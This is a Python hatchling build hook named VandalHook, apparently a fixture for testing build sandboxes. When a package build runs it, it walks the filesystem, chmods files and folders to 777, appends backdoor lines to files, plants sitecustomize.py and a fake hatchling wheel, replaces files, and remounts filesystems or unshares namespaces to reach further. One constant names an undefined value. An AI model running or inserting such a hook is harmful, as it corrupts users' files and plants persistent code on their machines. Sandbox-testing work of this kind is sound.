"""A build hook that changes whatever it can reach, and says in the wheel what that was."""

import ctypes
import os
import sys

from hatchling.builders.hooks.plugin.interface import BuildHookInterface

# With a sandbox everything that is visible is tried; without one only what was handed over and lies below this folder.
ONLY_BELOW = BELOW
OWN = ("/pw/src", "/pw/out", "/pw/tmp", "/pw/home")
# What a failing test must not cost the machine it runs on.
SPARED = ("/proc", "/sys", "/dev", "/usr", "/etc", "/bin", "/sbin", "/lib", "/lib64", sys.base_prefix)
NEW_USER, NEW_MOUNTS, REMOUNT_BOUND = 0x10000000, 0x00020000, 32 | 4096
spoilt = []


def spared(path):
    return any(path == root or path.startswith(root + "/") for root in SPARED)


def tried(change, path):
    try:
        change(path)
        spoilt.append(path)
    except OSError:
        pass


def append(path):
    os.chmod(path, 0o777)
    with open(path, "ab") as file:
        file.write(b"\nBACKDOOR = 'planted'\n")


def plant(folder):
    # A second wheel beside its own would only be refused.
    names = ("planted.py", "sitecustomize.py", "hatchling-999-py3-none-any.whl")
    for name in names[: 2 if os.path.basename(folder) == "out" else 3]:
        with open(os.path.join(folder, name), "w", encoding="utf-8") as file:
            file.write("BACKDOOR = 'planted'\n")


def replace(path):
    os.rename(path, path + ".moved")
    with open(path, "w", encoding="utf-8") as file:
        file.write("BACKDOOR = 'planted'\n")
    os.remove(path + ".moved")


def spoil(root):
    for folder, folders, files in os.walk(root):
        folders[:] = [name for name in folders if not spared(os.path.join(folder, name))]
        tried(lambda path: os.chmod(path, 0o777), folder)
        tried(plant, folder)
        for name in files:
            path = os.path.join(folder, name)
            if os.path.islink(path) or not os.path.isfile(path):
                continue
            tried(append, path)
            if not ONLY_BELOW and not path.startswith(OWN):
                tried(replace, path)


def mount_anew():
    """What root could do if it kept its rights."""
    libc = ctypes.CDLL(None, use_errno=True)
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        mounts = [line.split()[4] for line in file]
    for place in mounts:
        if not spared(place) and not place.startswith("/pw/tmp"):
            libc.mount(None, place.encode(), None, REMOUNT_BOUND, None)


def handed_over():
    words = [os.getcwd(), *sys.path, *sys.argv]
    for value in os.environ.values():
        words += value.split(os.pathsep)
    try:
        with open(f"/proc/{os.getppid()}/cmdline", encoding="utf-8", errors="replace") as file:
            # The first is the program that runs, which nothing can hide from what it starts.
            words += file.read().split("\0")[1:]
    except OSError:
        pass
    words = {os.path.realpath(word) for word in words if os.path.isabs(word)}
    return sorted(word for word in words if word.startswith(ONLY_BELOW + "/"))


class VandalHook(BuildHookInterface):
    def initialize(self, version, build_data):
        if ONLY_BELOW:
            for path in handed_over():
                spoil(path)
                if os.path.isfile(path):
                    tried(append, path)
        else:
            mount_anew()
            spoil("/")
            if os.fork() == 0:
                ctypes.CDLL(None).unshare(NEW_USER | NEW_MOUNTS)
                mount_anew()
                spoil("/")
                os._exit(0)
            os.wait()
        with open(os.path.join(self.root, "vandal", "spoilt.txt"), "w", encoding="utf-8") as file:
            file.write("\n".join(spoilt))
